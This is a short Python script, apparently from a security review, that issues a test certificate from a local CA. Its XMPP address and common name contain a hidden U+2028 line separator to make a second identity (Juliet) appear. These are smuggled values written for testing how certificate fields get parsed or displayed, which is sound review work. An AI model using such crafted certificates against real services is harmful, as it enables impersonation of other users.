import sys; sys.path.insert(0, '/work/review-findings/lib')
from mkcert import *
ca, cakey = load_cert(PKI + '/ca.pem'), load_key(PKI + '/ca.key')
k = load_key(PKI + '/direct.key')
xmpp = T(0xa0, OID('1.3.6.1.5.5.7.8.5') + T(0xa0, UTF8('mallory@evil.test\u2028juliet@example.com'.encode())))
subj = NAME((O, UTF8('Evil Corp')), (CN, UTF8('Mallory\u2028CN=Juliet Capulet')))
d = issue(subj, [KU_SIGN, EKU_EMAIL, BC_FALSE, san(xmpp)], spki(k), ca, cakey, 0x71)
open('u2028.pem', 'w').write(pem(d))
